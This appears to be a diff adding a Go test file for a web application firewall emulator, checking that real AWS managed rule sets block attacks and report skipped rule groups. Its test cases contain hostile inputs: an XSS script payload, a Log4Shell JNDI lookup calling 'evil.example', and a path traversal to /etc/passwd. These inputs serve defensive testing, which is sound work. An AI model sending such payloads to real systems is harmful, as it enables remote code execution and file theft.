@@ -1,0 +1,83 @@
+package waf
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// realACL reads a get-web-acl document from the real-world testdata of
+// internal/resource (provenance in its README).
+func realACL(t *testing.T, dir, file string) string {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join("..", "resource", "testdata", "real", dir, file))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var doc struct{ WebACL json.RawMessage }
+	if err := json.Unmarshal(b, &doc); err != nil {
+		t.Fatal(err)
+	}
+	return string(doc.WebACL)
+}
+
+// TestRealCreatedByCloudFront: the web ACL CloudFront's one-click protection
+// creates names a group this edge does not emulate (AmazonIpReputationList).
+// It is refused, naming the flag; with the group skipped it runs the two
+// CRS-backed groups and reports the rule it left out.
+func TestRealCreatedByCloudFront(t *testing.T) {
+	doc := realACL(t, "waf-createdbycloudfront", "CreatedByCloudFront-cf37def6.json")
+	_, err := Compile(decodeACL(t, doc), testResources())
+	if err == nil || !strings.Contains(err.Error(), "Rules[0].Statement.ManagedRuleGroupStatement: managed rule group AWS/AWSManagedRulesAmazonIpReputationList is not supported by this edge") ||
+		!strings.Contains(err.Error(), "pass --waf-skip-managed-group AWSManagedRulesAmazonIpReputationList") {
+		t.Fatalf("got %v, want the unsupported group named with the flag", err)
+	}
+
+	a := mustCompile(t, doc, testResources(), WithSkippedManagedGroups("AWSManagedRulesAmazonIpReputationList"))
+	if s := a.Skipped(); len(s) != 1 || !strings.HasPrefix(s[0], `Rules[0]: rule "AWS-AWSManagedRulesAmazonIpReputationList" is not evaluated`) {
+		t.Errorf("got skipped %q", s)
+	}
+	cases := []struct {
+		name, wantAction, wantRule string
+		r                          *Request
+	}{
+		{"benign", ActionAllow, "Default_Action", browserGet("/products/42", "page=2")},
+		{"xss by the common rule set", ActionBlock, "AWS-AWSManagedRulesCommonRuleSet", browserGet("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E")},
+		{"log4shell by known bad inputs", ActionBlock, "AWS-AWSManagedRulesKnownBadInputsRuleSet", browserGet("/", "", "X-Api-Version", "${jndi:ldap://evil.example/a}")},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			v := a.Evaluate(tc.r, t0)
+			if v.Action != tc.wantAction || v.TerminatingRuleID != tc.wantRule {
+				t.Errorf("got %s by %s, want %s by %s", v.Action, v.TerminatingRuleID, tc.wantAction, tc.wantRule)
+			}
+		})
+	}
+
+	// A group this edge emulates can be skipped too, by VENDOR/NAME.
+	a = mustCompile(t, doc, testResources(), WithSkippedManagedGroups("AWSManagedRulesAmazonIpReputationList", "AWS/AWSManagedRulesCommonRuleSet"))
+	if v := a.Evaluate(browserGet("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"), t0); v.Action != ActionAllow || len(a.Skipped()) != 2 {
+		t.Errorf("got %s with skipped %q, want ALLOW with two rules skipped", v.Action, a.Skipped())
+	}
+}
+
+// TestRealLab2: a user's get-web-acl output with the Common rule set and the
+// fields AWS added since (OnSourceDDoSProtectionConfig, LabelNamespace).
+func TestRealLab2(t *testing.T) {
+	a := mustCompile(t, realACL(t, "waf-lab2", "lab2-vpc-cf-waf.json"), testResources())
+	if len(a.Skipped()) != 0 {
+		t.Errorf("got skipped %q", a.Skipped())
+	}
+	v := a.Evaluate(browserGet("/download", "file=../../../../etc/passwd"), t0)
+	if v.Action != ActionBlock || v.TerminatingRuleID != "AWSManagedCommonRuleSet" {
+		t.Errorf("got %s by %s, want BLOCK by AWSManagedCommonRuleSet", v.Action, v.TerminatingRuleID)
+	}
+	for _, l := range v.Labels {
+		if strings.HasPrefix(l, "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments") {
+			return
+		}
+	}
+	t.Errorf("got labels %v, want GenericLFI_QueryArguments", v.Labels)
+}
